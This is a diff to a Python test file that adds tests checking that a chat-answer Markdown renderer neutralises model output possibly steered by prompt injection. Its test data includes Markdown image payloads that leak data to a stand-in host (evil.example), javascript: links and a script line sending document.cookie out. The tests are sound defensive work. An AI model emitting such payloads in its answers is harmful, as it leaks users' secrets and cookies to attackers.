@@ -8,7 +8,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tow_http.pages.markdown import render_markdown, safe_link
+from tow_http.pages.markdown import render_chat_markdown, render_markdown, safe_link
+from tow_http.pages.web import CONTENT_SECURITY_POLICY
 
 HOSTILE = [
     "<script>alert(1)</script>",
@@ -72,3 +73,93 @@ def test_random_text_never_produces_markup_beyond_markdowns_own(text):
     html = render_markdown(text)
     assert set(TAG.findall(html)) <= SAFE_TAGS, html
     assert all(safe_link(h) for h in hrefs(html)), html
+
+
+# --- chat answers: Markdown a model wrote, possibly steered by a prompt injection (issue 13) -------------
+
+EXFILTRATING_IMAGES = [
+    "![x](https://evil.example/?q=DOC-9%20secret)",
+    "![x](https://evil.example/p.png \"title\")",
+    "![x][r]\n\n[r]: https://evil.example/?q=secret",
+    "![x]\n\n[x]: https://evil.example/?q=secret",
+    "![][empty]\n\n[empty]: https://evil.example/?q=secret",
+    "[![x](https://evil.example/?q=inner)](https://evil.example/?q=outer)",
+    "![a ![b](https://evil.example/b)](https://evil.example/a)",
+    "![x](<https://evil.example/a b.png>)",
+    "![x](//evil.example/?q=secret)",
+    "<img src=\"https://evil.example/?q=secret\">",
+    "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "![x](javascript:alert(1))",
+]
+
+
+def visible_text(html: str) -> str:
+    return re.sub(r"<[^>]*>", "", html)
+
+
+@pytest.mark.parametrize("text", HOSTILE + EXFILTRATING_IMAGES + [
+    "[x](https://example.com) <script>fetch('https://evil.example/?q='+document.cookie)</script>",
+    "[x](javascript:fetch('https://evil.example'))", "[x](data:text/html,<script>alert(1)</script>)",
+    "<https://evil.example/?q=secret>", "<javascript:alert(1)>", "[x](\\javascript:alert(1))",
+    "[a [nested] b](javascript:alert(1))", "\\[x](javascript:alert(1))", "[x]: javascript:alert(1)\n\n[x]",
+])
+def test_a_chat_answer_renders_inert_and_loads_nothing(text):
+    html = render_chat_markdown(text)
+    assert set(TAG.findall(html)) <= SAFE_TAGS, html
+    tags_only = re.sub(r">[^<]*<", "><", html)
+    assert "<img" not in html and "<script" not in html and "<iframe" not in html and " src=" not in tags_only
+    assert all(safe_link(h) and not h.lower().startswith(("javascript", "data", "vbscript")) for h in hrefs(html))
+    assert " on" not in tags_only
+
+
+@pytest.mark.parametrize("text", EXFILTRATING_IMAGES[:9])
+def test_an_image_in_a_chat_answer_is_a_labelled_link_to_click_not_a_picture_to_load(text):
+    html = render_chat_markdown(text)
+    assert "<img" not in html
+    assert "image" in visible_text(html) and "evil.example" in visible_text(html), html
+    assert html.count("<a ") == html.count("</a>") <= 1  # never an anchor inside an anchor
+
+
+def test_a_reference_style_image_keeps_its_address_only_as_a_link():
+    html = render_chat_markdown("See ![chart][c].\n\n[c]: https://evil.example/?q=secret")
+    assert html == ('<p>See <a href="https://evil.example/?q=secret" rel="noopener noreferrer nofollow">image: chart'
+                    '</a> (evil.example).</p>\n')
+
+
+def test_every_chat_link_is_plain_and_a_link_to_another_site_shows_where_it_goes():
+    html = render_chat_markdown("[DOC-1](https://evil.example/?q=secret) [DOC-2](/o/1/r/DOC-2) "
+                                "[https://good.example](https://evil.example/x) <https://example.com/a> "
+                                "[mail](mailto:a@b.example)")
+    assert hrefs(html) == ["https://evil.example/?q=secret", "/o/1/r/DOC-2", "https://evil.example/x",
+                           "https://example.com/a", "mailto:a@b.example"]
+    assert html.count('rel="noopener noreferrer nofollow"') == 5 and "target=" not in html
+    text = visible_text(html)
+    assert "DOC-1 (evil.example)" in text  # cannot pass for a citation of DOC-1
+    assert "DOC-2 (" not in text  # this server's own pages need no host
+    assert "https://good.example (evil.example)" in text
+    assert "https://example.com/a (" not in text  # an autolink shows its address already
+
+
+def test_a_refused_link_in_a_chat_answer_stays_as_its_text():
+    assert visible_text(render_chat_markdown("[click](javascript:alert(1))")).strip() == "[click](javascript:alert(1))"
+    assert visible_text(render_chat_markdown("<b>bold</b>")).strip() == "&lt;b&gt;bold&lt;/b&gt;"
+
+
+def test_ordinary_markdown_in_a_chat_answer_still_works():
+    html = render_chat_markdown("## Answer\n\n**Tuesday**, see `DOC-1`:\n\n- one\n- two\n\n```\ncode\n```")
+    assert "<h2>Answer</h2>" in html and "<strong>Tuesday</strong>" in html and "<code>DOC-1</code>" in html
+    assert "<li>one</li>" in html and "<pre><code>code\n</code></pre>" in html
+
+
+@given(st.text(alphabet=st.sampled_from(list("<>\"'=:/()[]!&#;javscriptJAVSCRIPT onerrorhttpdatamailto \n\t`*_")),
+               max_size=80))
+def test_random_text_in_a_chat_answer_never_produces_an_image_or_a_refused_link(text):
+    html = render_chat_markdown(text)
+    assert set(TAG.findall(html)) <= SAFE_TAGS, html
+    assert all(safe_link(h) for h in hrefs(html)), html
+
+
+def test_pages_may_load_images_from_this_server_only():
+    """The browser's own backstop behind the renderers: no page may load an image from anywhere else."""
+    directives = dict(d.strip().split(" ", 1) for d in CONTENT_SECURITY_POLICY.split(";"))
+    assert directives["img-src"] == "'self'" and directives["default-src"] == "'none'"
